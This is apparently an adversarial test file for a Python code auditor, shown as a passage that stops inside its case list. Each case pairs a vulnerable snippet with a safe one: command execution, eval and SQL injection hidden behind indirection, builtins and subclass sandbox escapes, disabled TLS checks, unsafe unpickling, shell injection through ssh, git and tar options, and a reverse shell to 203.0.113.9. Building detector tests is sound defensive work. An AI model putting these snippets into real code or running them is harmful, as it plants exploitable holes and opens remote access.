"""Dangerous calls that hide behind values, classes, tables, modules and spellings of a shell."""

from __future__ import annotations

from pathlib import Path

import pytest

from auditor.domain import Evidence
from tests.adversarial.authors.drawing import CODE, LOADING, QUERY, SHELL, TLS, Case, evidence_by_case, evidence_by_path

CASES: list[Case] = [
    ('a thread', SHELL, 'import os\nfrom threading import Thread\ndef f(x):\n    Thread(target=os.system, args=(x,)).start()\n', 'import os\nfrom threading import Thread\ndef f(x):\n    Thread(target=os.unlink, args=(x,)).start()\n'),
    ('an executor', CODE, 'def f(executor, x):\n    executor.submit(eval, x)\n', 'def f(executor, x):\n    executor.submit(len, x)\n'),
    ('a table', CODE, "def f(x):\n    return {'e': eval}['e'](x)\n", "import ast\ndef f(x):\n    return {'e': ast.literal_eval}['e'](x)\n"),
    ('the other entry of a table', SHELL, "import os\ndef f(x, key):\n    return {'a': os.getcwd, 'b': os.system}[key](x)\n", "import os\ndef f(x, key):\n    return {'a': os.getcwd, 'b': os.listdir}[key](x)\n"),
    ('map', CODE, 'def f(x):\n    return list(map(eval, [x]))\n', 'def f(x):\n    return list(map(int, [x]))\n'),
    ('a method under another name', QUERY, "def f(c, x):\n    run = c.execute\n    run('select * from t where n = ' + x)\n", "def f(c, x):\n    run = c.execute\n    run('select * from t where n = ?', (x,))\n"),
    ('a method kept in an attribute', QUERY, "class Q:\n    def __init__(self, c):\n        self.run = c.execute\n    def f(self, x):\n        self.run('select * from t where n = ' + x)\n", "class Q:\n    def __init__(self, c):\n        self.run = c.execute\n    def f(self, x):\n        self.run('select * from t where n = ?', (x,))\n"),
    ('a method taken by its name', QUERY, "def f(c, x):\n    getattr(c, 'execute')('select * from t where n = ' + x)\n", "def f(c, x):\n    getattr(c, 'execute')('select * from t where n = ?', (x,))\n"),
    ('a method that is mapped', QUERY, "def f(c, x):\n    list(map(c.execute, ['select * from t where n = ' + x]))\n", "def f(c):\n    list(map(c.execute, ['select 1', 'select 2']))\n"),
    ('a partial of a method', QUERY, "from functools import partial\ndef f(c, x):\n    partial(c.execute, 'select * from t where n = ' + x)()\n", "from functools import partial\ndef f(c, x):\n    partial(c.execute, 'select * from t where n = ?')((x,))\n"),
    ('a method in a thread', QUERY, "from threading import Thread\ndef f(c, x):\n    Thread(target=c.execute, args=('select * from t where n = ' + x,)).start()\n", "from threading import Thread\ndef f(c, x):\n    Thread(target=c.execute, args=('select * from t where n = ?', (x,))).start()\n"),
    ('a module as a default', SHELL, 'import os\ndef f(x, tools=os):\n    tools.system(x)\n', 'import os\ndef f(x, tools=os):\n    tools.unlink(x)\n'),
    ('a module in a context manager', SHELL, 'import os\nfrom contextlib import nullcontext\ndef f(x):\n    with nullcontext(os) as o:\n        o.system(x)\n', 'import os\nfrom contextlib import nullcontext\ndef f(x):\n    with nullcontext(os) as o:\n        o.unlink(x)\n'),
    ('a module inside another', SHELL, 'import shutil\ndef f(x):\n    shutil.os.system(x)\n', 'import shutil\ndef f(x):\n    shutil.os.unlink(x)\n'),
    ('a module taken from another', SHELL, 'from shutil import os as o\ndef f(x):\n    o.system(x)\n', 'from shutil import os as o\ndef f(x):\n    o.unlink(x)\n'),
    ('a module that is passed on', SHELL, 'import os\nfrom elsewhere import use\ndef f(x):\n    use(os, x)\n', 'import os\ndef f(x):\n    return hasattr(os, x)\n'),
    ('a module in globals', SHELL, "import os\ndef f(x):\n    globals()['os'].system(x)\n", "import os\ndef f(x):\n    globals()['os'].unlink(x)\n"),
    ('a module in a class', SHELL, 'import os\nclass T:\n    os = os\ndef f(x):\n    T.os.system(x)\n', 'import os\nclass T:\n    os = os\ndef f(x):\n    T.os.unlink(x)\n'),
    ('a partial called in place', SHELL, 'import os, functools\ndef f(x):\n    functools.partial(os.system)(x)\n', 'import os, functools\ndef f(x):\n    functools.partial(os.unlink)(x)\n'),
    ('getattr', SHELL, "import os\ndef f(x):\n    getattr(os, 'sys' + 'tem')(x)\n", "import os\ndef f(x):\n    getattr(os, 'un' + 'link')(x)\n"),
    ('attrgetter', SHELL, "import os, operator\ndef f(x):\n    operator.attrgetter('system')(os)(x)\n", "import os, operator\ndef f(x):\n    operator.attrgetter('unlink')(x)\n"),
    ('methodcaller', SHELL, "import os, operator\ndef f(x):\n    operator.methodcaller('system', x)(os)\n", "import operator\ndef f(x):\n    operator.methodcaller('strip')(x)\n"),
    ('an attribute of a class', SHELL, 'import os\nclass T:\n    run = os.system\ndef f(x):\n    T.run(x)\n', 'import os\nclass T:\n    run = os.unlink\ndef f(x):\n    T.run(x)\n'),
    ('setattr', SHELL, "import os\nclass T: ...\nsetattr(T, 'run', os.system)\n", "import os\nclass T: ...\nsetattr(T, 'run', os.unlink)\n"),
    ('a class derived from Popen', SHELL, 'import subprocess\nclass P(subprocess.Popen): ...\ndef f(x):\n    P(x, shell=True)\n', "import subprocess\nclass P(subprocess.Popen): ...\ndef f(x):\n    P(['ls', x])\n"),
    ('the constructor of a base class', SHELL, 'import subprocess\nclass P(subprocess.Popen):\n    def __init__(self, c):\n        super().__init__(c, shell=True)\n', "import subprocess\nclass P(subprocess.Popen):\n    def __init__(self, c):\n        super().__init__(['ls', c])\n"),
    ('a loop over functions', SHELL, 'import os\ndef f(x):\n    for g in (print, os.system):\n        g(x)\n', 'import os\ndef f(x):\n    for g in (print, os.unlink):\n        g(x)\n'),
    ('a comprehension over functions', CODE, 'def f(x):\n    return [g(x) for g in [len, eval]]\n', 'def f(x):\n    return [g(x) for g in [len, str]]\n'),
    ('a tuple that is unpacked', SHELL, 'import os\ndef f(x):\n    a, b = print, os.system\n    b(x)\n', 'import os\ndef f(x):\n    a, b = print, os.unlink\n    b(x)\n'),
    ('a lambda', SHELL, 'import os\ng = lambda: os\ndef f(x):\n    g().system(x)\n', 'import os\ng = lambda: os\ndef f(x):\n    g().unlink(x)\n'),
    ('a function that returns it', SHELL, 'import os\ndef g():\n    return os.system\ndef f(x):\n    g()(x)\n', 'import os\ndef g():\n    return os.unlink\ndef f(x):\n    g()(x)\n'),
    ('a client in a loop', TLS, 'import requests\ndef f(u):\n    for g in (requests.get, requests.post):\n        g(u, verify=False)\n', "import requests\ndef f(u):\n    for g in (requests.get, requests.post):\n        g(u, verify='ca.pem')\n"),
    ('a loader that is mapped', LOADING, 'import pickle\ndef f(b):\n    return list(map(pickle.loads, b))\n', 'import json\ndef f(b):\n    return list(map(json.loads, b))\n'),
    ('options in one word', SHELL, "import subprocess\ndef f(x):\n    subprocess.run(['bash', '-ec', x])\n", "import subprocess\ndef f(x):\n    subprocess.run(['bash', '-e', 'run.sh', x])\n"),
    ('options with values', SHELL, "import subprocess\ndef f(x):\n    subprocess.run(['bash', '-euo', 'pipefail', '-c', x])\n", "import subprocess\ndef f(x):\n    subprocess.run(['bash', '-euo', 'pipefail', 'run.sh', x])\n"),
    ('a launcher with a folder', SHELL, "import subprocess\ndef f(x):\n    subprocess.run(['/usr/bin/env', 'bash', '-c', x])\n", "import subprocess\ndef f(x):\n    subprocess.run(['/usr/bin/env', 'grep', '-c', x])\n"),
    ('words that are spread', SHELL, "import subprocess\nSHELL = ['bash', '-c']\ndef f(x):\n    subprocess.run([*SHELL, x])\n", "import subprocess\nGREP = ['grep', '-c']\ndef f(x):\n    subprocess.run([*GREP, x])\n"),
    ('words that are split', SHELL, "import subprocess\ndef f(x):\n    subprocess.run('bash -c'.split() + [x])\n", "import subprocess\ndef f(x):\n    subprocess.run('grep -c'.split() + [x])\n"),
    ('words that are added', SHELL, "import subprocess\ndef f(x):\n    cmd = ['bash']\n    cmd += ['-c', x]\n    subprocess.run(cmd)\n", "import subprocess\ndef f(x):\n    cmd = ['grep']\n    cmd += ['-c', x]\n    subprocess.run(cmd)\n"),
    ('a shell that reads its input', SHELL, "import subprocess\ndef f(x):\n    subprocess.run(['sh'], input=x)\n", "import subprocess\ndef f(x):\n    subprocess.run(['sort'], input=x)\n"),
    ('a shell that is written to', SHELL, "import subprocess\ndef f(x):\n    p = subprocess.Popen(['sh'], stdin=subprocess.PIPE)\n    p.communicate(x)\n", "import subprocess\ndef f(x):\n    p = subprocess.Popen(['sort'], stdin=subprocess.PIPE)\n    p.communicate(x)\n"),
    ('another executable', SHELL, "import subprocess\ndef f(x):\n    subprocess.run(['x', '-c', x], executable='/bin/bash')\n", "import subprocess\ndef f(x):\n    subprocess.run(['x', '-c', x], executable='/bin/grep')\n"),
    ('a text that env splits', SHELL, "import subprocess\ndef f(x):\n    subprocess.run(['env', '-S', 'bash -c', x])\n", "import subprocess\ndef f(x):\n    subprocess.run(['env', '-S', 'grep -c', x])\n"),
    ('PowerShell', SHELL, "import subprocess\ndef f(x):\n    subprocess.run(['powershell.exe', '-NoProfile', '-command', x])\n", "import subprocess\ndef f(x):\n    subprocess.run(['powershell.exe', '-NoProfile', '-File', x])\n"),
    ('Python with two options', SHELL, "import subprocess, sys\ndef f(x):\n    subprocess.run([sys.executable, '-Ic', x])\n", "import subprocess, sys\ndef f(x):\n    subprocess.run([sys.executable, '-Im', 'tool', x])\n"),
    ('a methodcaller that untrusted input reaches', SHELL, "import os\nfrom operator import methodcaller\nfrom flask import request\ndef f():\n    x = request.args['a']\n    methodcaller('system', 'lpr ' + x)(os)\n", "from operator import methodcaller\nfrom flask import request\ndef f():\n    x = request.args['a']\n    methodcaller('strip', 'lpr ' + x)(x)\n"),
    ('find that runs a shell', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['find', '.', '-exec', 'sh', '-c', x, ';'])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['find', '.', '-name', x, '-exec', 'grep', '-c', x, ';'])\n"),
    ('find that runs an interpreter', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['find', '.', '-exec', 'perl', '-e', x, ';'])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['find', '.', '-exec', 'perl', 'run.pl', '-e', x, ';'])\n"),
    ('a text that env splits at run time', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['env', '-S', x])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['env', '-u', 'HOME', 'grep', '-S', x])\n"),
    ('a text that env splits, in one word', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['env', '--split-string=' + x])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['env', 'A=' + x, 'ls'])\n"),
    ('a program of awk', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['awk', '-F', ':', x, 'data.txt'])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['awk', '-v', 'n=' + x, '-F', ':', '{ print n }', x])\n"),
    ('a program of awk that is built', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['awk', '{ print ' + x + ' }', 'data.txt'])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['awk', '-f', x, x])\n"),
    ('a command for another machine', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['ssh', '-p', '22', host, x])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['ssh', '-p', '22', host, 'ls ' + shlex.quote(x)])\n"),
    ('words for another machine', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['ssh', host, 'ls', x])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['ssh', '-i', x, host, 'ls'])\n"),
    ('the proxy of a connection', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['ssh', '-o', 'ProxyCommand=' + x, 'shop.example'])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['ssh', '-o', 'User=' + x, 'shop.example'])\n"),
    ('the proxy of a copy', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['scp', f'-oproxycommand={x}', 'a', 'shop.example:b'])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['scp', f'-oport={x}', 'a', 'shop.example:b'])\n"),
    ('an alias of git', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['git', '-c', 'alias.p=!' + x, 'p'])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['git', '-c', 'user.name=' + x, 'commit'])\n"),
    ('a setting of git', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['git', '-c', f'core.sshCommand={x}', 'fetch'])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['git', '-c', f'core.quotePath={x}', 'fetch'])\n"),
    ('an action of tar', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['tar', 'cf', 'a.tar', '--checkpoint=1', '--checkpoint-action=exec=' + x, '.'])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['tar', 'cf', 'a.tar', '--checkpoint=1', '--checkpoint-action=echo=' + x, '.'])\n"),
    ('a command of another user', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['su', '-', 'shop', '-c', x])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['su', '-', 'shop', '-c', 'ls'])\n"),
    ('a command of another user, in one word', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['su', 'shop', f'--command={x}'])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['su', '-s', '/bin/sh', x])\n"),
    ('a command in a terminal', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['script', '-qc', x, '/dev/null'])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['script', '-q', x])\n"),
    ('a command under a lock', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['flock', '-w', '5', '/tmp/lock', '-c', x])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['flock', '-w', '5', '/tmp/lock', 'grep', '-c', x])\n"),
    ('a program of awk behind sudo', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['sudo', 'awk', x])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['sudo', 'grep', x])\n"),
    ('a command that is watched', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['watch', '-n', '2', x])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['watch', '-n', x, 'ls'])\n"),
    ('options that are added to those of callers', SHELL, "import subprocess\ndef run(words, **options):\n    options |= {'shell': True}\n    subprocess.check_call(words, **options)\n", "import subprocess\ndef run(words, **options):\n    options |= {'shell': False, 'cwd': 'shop'}\n    subprocess.check_call(words, **options)\n"),
    ('options that are made of those of callers', SHELL, "import subprocess\ndef run(words, **options):\n    options = dict(options, cwd='shop', shell=True)\n    return subprocess.check_output(words, **options)\n", "import subprocess\ndef run(words, **options):\n    options = dict(options, cwd='shop', text=True)\n    return subprocess.check_output(words, **options)\n"),
    ('a kind of process that adds a shell', SHELL, "from subprocess import Popen\nclass Quiet(Popen):\n    def __init__(self, *words, **options):\n        options.setdefault('shell', True)\n        super().__init__(*words, **options)\n", "from subprocess import Popen\nclass Quiet(Popen):\n    def __init__(self, *words, **options):\n        options.setdefault('shell', False)\n        super().__init__(*words, **options)\n"),
    ('a kind of process that has a shell', SHELL, "import functools, subprocess\nclass Quiet(subprocess.Popen):\n    __init__ = functools.partialmethod(subprocess.Popen.__init__, shell=True)\n", "import functools, subprocess\nclass Quiet(subprocess.Popen):\n    __init__ = functools.partialmethod(subprocess.Popen.__init__, text=True)\n"),
    ('a quoted word that a shell inside the shell runs', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(shlex.join(['bash', '-c', x]), shell=True)\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(shlex.join(['ls', '-c', x]), shell=True)\n"),
    ('one quoted word of a list', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['ls ' + x, shlex.quote(host)], shell=True)\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['ls', shlex.quote(x), shlex.quote(host)], shell=True)\n"),
    ('quoted words that are added to others', SHELL, "import shlex, subprocess\ndef f(x, host):\n    words = ['ls', *x]\n    words.extend(shlex.quote(each) for each in host)\n    subprocess.run(' '.join(words), shell=True)\n", "import shlex, subprocess\ndef f(x, host):\n    words = ['ls', *map(shlex.quote, x)]\n    words.extend(shlex.quote(each) for each in host)\n    subprocess.run(' '.join(words), shell=True)\n"),
    ('words that are joined and quoted', SHELL, "import os, shlex\ndef f(x, host):\n    os.system(' '.join(['ls', '-l', *x]))\n", "import os, shlex\ndef f(x, host):\n    os.system(shlex.join(['ls', '-l', *x]) + ' > list.txt')\n"),
    ('SQL is no command', SHELL, "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['bash', '-c', x])\n", "import shlex, subprocess\ndef f(x, host):\n    subprocess.run(['psql', '-c', x])\n"),
    ('a builtin behind another', CODE, 'def f(x):\n    print.__self__.eval(x)\n', 'def f(x):\n    print.__self__.len(x)\n'),
    ('a builtin behind another function', CODE, 'def f(x):\n    min.__self__.exec(x)\n', 'def f(x):\n    x.run.__self__.close()\n'),
    ('a builtin taken from another by name', CODE, "def f(x):\n    getattr(print.__self__, 'eval')(x)\n", "def f(x):\n    getattr(print.__self__, 'len')(x)\n"),
    ('a builtin in the dictionary of another', CODE, "def f(x):\n    print.__self__.__dict__['eval'](x)\n", "def f(x):\n    print.__self__.__dict__['len'](x)\n"),
    ('builtins inside another module', CODE, "import inspect\ndef f(x):\n    vars(inspect.builtins)['eval'](x)\n", "import inspect\ndef f(x):\n    vars(inspect.builtins)['len'](x)\n"),
    ('builtins inside another module, called', CODE, 'import inspect\ndef f(x):\n    inspect.builtins.eval(x)\n', 'import inspect\ndef f(x):\n    inspect.builtins.len(x)\n'),
    ('builtins that are imported by a call', CODE, "def f(x):\n    vars(__import__('builtins'))['eval'](x)\n", "def f(x):\n    vars(__import__('builtins'))['len'](x)\n"),
    ('the dictionary of builtins that are imported by a call', CODE, "def f(x):\n    __import__('builtins').__dict__['eval'](x)\n", "def f(x):\n    __import__('builtins').__dict__['len'](x)\n"),
    ('builtins that are imported by a call and called', CODE, "def f(x):\n    __import__('builtins').eval(x)\n", "def f(x):\n    __import__('builtins').len(x)\n"),
    ('globals of a class', CODE, "from base import Base\ndef f(x):\n    [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Quitter'][0].__init__.__globals__['__builtins__']['eval'](x)\n", "from base import Base\ndef f(x):\n    [c for c in Base.__subclasses__() if c.__name__ == 'Shop'][0].__init__(x)\n"),
    ('the globals of a class that is picked by number', CODE, "def f(x):\n    ().__class__.__base__.__subclasses__()[140].__init__.__globals__['system'](x)\n", "def f(x):\n    f.__globals__['helper'](x)\n"),
    ('the globals of a class in a loop', CODE, "def f(x):\n    for c in object.__subclasses__():\n        if c.__name__ == '_wrap_close':\n            c.__init__.__globals__['system'](x)\n", 'def f(x):\n    for c in object.__subclasses__():\n        print(c.__name__)\n'),
    ('globals of a function', CODE, "def f(x):\n    f.__globals__['__builtins__']['eval'](x)\n", "def f(x):\n    f.__globals__['__name__'].upper()\n"),
    ('the globals of a function, by a method', CODE, "def f(x):\n    f.__globals__['__builtins__'].get('eval')(x)\n", "def f(x):\n    f.__globals__.get('VERSION')\n"),
    ('the globals of a function, by getattr', CODE, "def f(x):\n    getattr(f.__globals__['__builtins__'], 'eval')(x)\n", "def f(x):\n    getattr(f, 'run')(x)\n"),
    ('builtins by a method', CODE, "def f(x):\n    __builtins__.get('eval')(x)\n", "def f(x):\n    __builtins__.get('len')(x)\n"),
    ('the dictionary of builtins by a method', CODE, "def f(x):\n    vars(__builtins__).get('eval')(x)\n", "def f(x):\n    vars(__builtins__).get('len')(x)\n"),
    ('builtins among all modules', CODE, "import sys\ndef f(x):\n    sys.modules['builtins'].eval(x)\n", "import sys\ndef f(x):\n    sys.modules['builtins'].len(x)\n"),
    ('builtins among globals', CODE, "def f(x):\n    globals()['__builtins__']['eval'](x)\n", "def f(x):\n    globals()['__builtins__']['len'](x)\n"),
    ('builtins among globals, called', CODE, "def f(x):\n    globals()['__builtins__'].eval(x)\n", "def f(x):\n    globals()['__builtins__'].len(x)\n"),
    ('builtins under another name', CODE, 'def f(x):\n    b = print.__self__\n    b.eval(x)\n', 'def f(x):\n    b = print.__self__\n    b.len(x)\n'),
    ('the dictionary of builtins under another name', CODE, "def f(x):\n    b = vars(__import__('builtins'))\n    b['eval'](x)\n", "def f(x):\n    b = vars(__import__('builtins'))\n    b['len'](x)\n"),
    ('a module behind one of its functions', SHELL, 'import os\ndef f(x):\n    os.getcwd.__self__.system(x)\n', 'import os\ndef f(x):\n    os.getcwd.__self__.unlink(x)\n'),
    ('a module in the globals of a function', SHELL, "import os\ndef f(x):\n    os.path.join.__globals__['os'].system(x)\n", "import os\ndef f(x):\n    os.path.join.__globals__['os'].unlink(x)\n"),
    ('a class picked from all', CODE, "from base import Base\ndef f(x):\n    ().__class__.__mro__[1].__subclasses__()[140]('ls ' + x, shell=True)\n", 'from base import Base\ndef f(x):\n    [each for each in Base.__subclasses__()][0](x)\n'),
    ('a setting made by setattr', TLS, "import requests\ndef f(u):\n    s = requests.Session()\n    setattr(s, 'verify', False)\n", "import requests\ndef f(u):\n    s = requests.Session()\n    setattr(s, 'verify', 'ca.pem')\n"),
    ("a setting made by the object's own method", TLS, "import requests\ndef f(u):\n    s = requests.Session()\n    s.__setattr__('verify', False)\n", "import requests\ndef f(u):\n    s = requests.Session()\n    s.__setattr__('verify', True)\n"),
    ('a setting made by the method of object', TLS, "import requests\ndef f(u):\n    s = requests.Session()\n    object.__setattr__(s, 'verify', False)\n", "import requests\ndef f(u):\n    s = requests.Session()\n    object.__setattr__(s, 'verify', True)\n"),
    ('a setting in a dictionary', TLS, 'import requests\ndef f(u):\n    s = requests.Session()\n    vars(s).update(verify=False)\n', "import requests\ndef f(u):\n    s = requests.Session()\n    vars(s).update(verify='ca.pem')\n"),
    ('a setting in a dictionary that is updated by another', TLS, "import requests\ndef f(u):\n    s = requests.Session()\n    s.__dict__.update({'verify': False})\n", "import requests\ndef f(u):\n    s = requests.Session()\n    s.__dict__.update({'stream': False})\n"),
    ('a setting in a dictionary by its key', TLS, "import requests\ndef f(u):\n    s = requests.Session()\n    s.__dict__['verify'] = False\n", "import requests\ndef f(u):\n    s = requests.Session()\n    s.__dict__['stream'] = False\n"),
    ('a setting in a dictionary of vars by its key', TLS, "import requests\ndef f(u):\n    s = requests.Session()\n    vars(s)['verify'] = False\n", "import requests\ndef f(u):\n    s = requests.Session()\n    vars(s)['stream'] = False\n"),
    ('a method with a bound argument', TLS, 'import requests\nfrom functools import partialmethod\nrequests.Session.request = partialmethod(requests.Session.request, verify=False)\n', 'import requests\nfrom functools import partialmethod\nrequests.Session.request = partialmethod(requests.Session.request, timeout=5)\n'),
    ('a method kept before with a bound argument', TLS, 'import functools\nfrom requests import Session\nold = Session.request\nSession.request = functools.partialmethod(old, verify=False)\n', 'import functools\nclass Token:\n    check = functools.partialmethod(str.split, verify=False)\n'),
    ('a method of a class with a bound argument', TLS, 'import functools\nfrom requests import Session\nclass S(Session):\n    request = functools.partialmethod(Session.request, verify=False)\n', 'import functools\nfrom requests import Session\nclass S(Session):\n    request = functools.partialmethod(Session.request, verify=True)\n'),
    ('a mode by its number', TLS, 'import ssl\nc = ssl.create_default_context()\nc.verify_mode = ssl.VerifyMode(0)\n', 'import ssl\nc = ssl.create_default_context()\nc.verify_mode = ssl.VerifyMode(2)\n'),
    ('a mode that is a number', TLS, 'import ssl\nc = ssl.create_default_context()\nc.verify_mode = 0\n', 'import ssl\nc = ssl.create_default_context()\nc.verify_mode = 2\n'),
    ('a mode by its name', TLS, "import ssl\nc = ssl.create_default_context()\nc.verify_mode = ssl.VerifyMode['CERT_NONE']\n", "import ssl\nc = ssl.create_default_context()\nc.verify_mode = ssl.VerifyMode['CERT_REQUIRED']\n"),
    ('a mode taken by getattr', TLS, "import ssl\nc = ssl.create_default_context()\nc.verify_mode = getattr(ssl, 'CERT_NONE')\n", "import ssl\nc = ssl.create_default_context()\nc.verify_mode = getattr(ssl, 'CERT_REQUIRED')\n"),
    ('a mode set by setattr', TLS, "import ssl\nc = ssl.create_default_context()\nsetattr(c, 'verify_mode', ssl.CERT_NONE)\n", "import ssl\nc = ssl.create_default_context()\nsetattr(c, 'verify_mode', ssl.CERT_REQUIRED)\n"),
    ('a check of names set by setattr', TLS, "import ssl\nc = ssl.create_default_context()\nsetattr(c, 'check_hostname', False)\n", "import ssl\nc = ssl.create_default_context()\nsetattr(c, 'check_hostname', True)\n"),
    ('modes set by setattr from a list', TLS, "import ssl\nc = ssl.create_default_context()\nfor n, v in [('check_hostname', False), ('verify_mode', ssl.CERT_NONE)]:\n    setattr(c, n, v)\n", "import ssl\nc = ssl.create_default_context()\nfor n, v in [('check_hostname', True), ('verify_mode', ssl.CERT_REQUIRED)]:\n    setattr(c, n, v)\n"),
    ('modes set by setattr from a dictionary', TLS, "import ssl\nMODES = {'options': 0, 'verify_mode': ssl.CERT_NONE}\ndef f(c):\n    for n, v in MODES.items():\n        object.__setattr__(c, n, v)\n", "import ssl\nMODES = {'options': 0, 'verify_mode': ssl.CERT_NONE}\ndef f(c):\n    for n, v in MODES.items():\n        print(c, n, v)\n"),
    ('the default context set by setattr', TLS, "import ssl\nsetattr(ssl, '_create_default_https_context', ssl._create_unverified_context)\n", "import ssl\nsetattr(ssl, '_create_default_https_context', ssl.create_default_context)\n"),
    ('a method of the module of sessions', TLS, 'import requests\nfrom functools import partialmethod\nS = requests.sessions.Session\nS.request = partialmethod(S.request, verify=False)\n', "import requests\nfrom functools import partialmethod\nS = requests.sessions.Session\nS.request = partialmethod(S.request, verify='ca.pem')\n"),
    ('a method of a connection of the module', QUERY, "import sqlite3\nC = sqlite3.connect('a.db')\nrun = C.execute\ndef f(x):\n    run('select * from t where n = ' + x)\n", "import sqlite3\nC = sqlite3.connect('a.db')\nrun = C.execute\ndef f(x):\n    run('select * from t where n = ?', (x,))\n"),
    ('a method of a connection, kept in an attribute', QUERY, "import sqlite3\nclass Q:\n    def __init__(self):\n        self.run = sqlite3.connect('a.db').execute\n    def f(self, x):\n        self.run('select * from t where n = ' + x)\n", "import sqlite3\nclass Q:\n    def __init__(self):\n        self.run = sqlite3.connect('a.db').execute\n    def f(self, x):\n        self.run('select * from t where n = ?', (x,))\n"),
    ('a reverse shell', SHELL, "import os, pty, socket\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nfor i in range(3):\n    os.dup2(s.fileno(), i)\npty.spawn('/bin/sh')\n", "import os, sys\nwith open('log.txt', 'w') as log:\n    os.dup2(log.fileno(), 1)\n    os.dup2(log.fileno(), 2)\n"),
    ('a listener that unpickles', LOADING, "from multiprocessing.connection import Listener\ndef f():\n    with Listener(('0.0.0.0', 9001)) as l, l.accept() as c:\n        return c.recv()\n", "from multiprocessing.connection import Listener\ndef f():\n    with Listener(('0.0.0.0', 9001)) as l, l.accept() as c:\n        return c.recv_bytes()\n"),
    ('a partial of a loader', LOADING, 'import numpy as np\nfrom functools import partial\nload = partial(np.load, allow_pickle=True)\ndef f(x):\n    return load(x)\n', 'import numpy as np\nfrom functools import partial\nload = partial(np.load, allow_pickle=False)\ndef f(x):\n    return load(x)\n'),
    ('a method of a connection, kept in an attribute of a new object', QUERY, "import sqlite3\nclass Q:\n    def __init__(self):\n        self.q = sqlite3.connect('a.db').execute\ndef f(x):\n    Q().q('select * from t where n = ' + x)\n", "import sqlite3\nclass Q:\n    def __init__(self):\n        self.q = sqlite3.connect('a.db').execute\ndef f(x):\n    Q().q('select * from t where n = ?', (x,))\n"),
    ('a method of a connection, kept in a class', QUERY, "import sqlite3\nclass Q:\n    go = sqlite3.connect('a.db').execute\ndef f(x):\n    Q.go('select * from t where n = ' + x)\n", "import sqlite3\nclass Q:\n    go = sqlite3.connect('a.db').execute\ndef f(x):\n    Q.go('select * from t where n = ?', (x,))\n"),
    ('builtins in a name that is bound twice', CODE, "run = globals()['__builtins__']\nrun = run['exec'] if isinstance(run, dict) else run.exec\ndef f(x):\n    run(x)\n", "import builtins\nrun = builtins\nrun = run.len if hasattr(run, 'len') else run.max\ndef f(x):\n    run(x)\n"),
    ('a room that runs a shell', SHELL, "import subprocess\nIN = ('machinectl', 'shell', 'shop', '/usr/bin/dash')\ndef f(x):\n    subprocess.run([*IN, '-ec', x])\n", "import subprocess\nIN = ('machinectl', 'shell', 'shop', '/usr/bin/tail')\ndef f(x):\n    subprocess.run([*IN, '-n', x])\n"),
    ('a program that nobody knows runs a shell', SHELL, "import subprocess\ndef f(x):\n    subprocess.run(['in-shop', '--quiet', 'bash', '-lc', 'tail ' + x])\n", "import subprocess\ndef f(x):\n    subprocess.run(['in-shop', '--quiet', 'bash', 'tail.sh', x])\n"),
    ('an interpreter behind two dashes', SHELL, "import subprocess\ndef f(x):\n    subprocess.run(['in-shop', '--', 'perl', '-e', x])\n", "import subprocess\ndef f(x):\n    subprocess.run(['in-shop', '--', 'perl', 'tail.pl', x])\n"),
    ('a text that env splits behind two dashes', SHELL, "import subprocess\ndef f(x):\n    subprocess.run(['in-shop', '--', 'env', '-S', 'sh -c ' + x])\n", "import subprocess\ndef f(x):\n    subprocess.run(['in-shop', '--', 'env', '-u', 'HOME', 'tail', x])\n"),
    ('a request that names what sudo starts', SHELL, "import subprocess\nfrom flask import request\ndef f():\n    subprocess.run(['sudo', 'nice', request.args['tool'], '--all'])\n", "import subprocess\nfrom flask import request\ndef f():\n    subprocess.run(['sudo', 'nice', 'tool', request.args['name']])\n"),
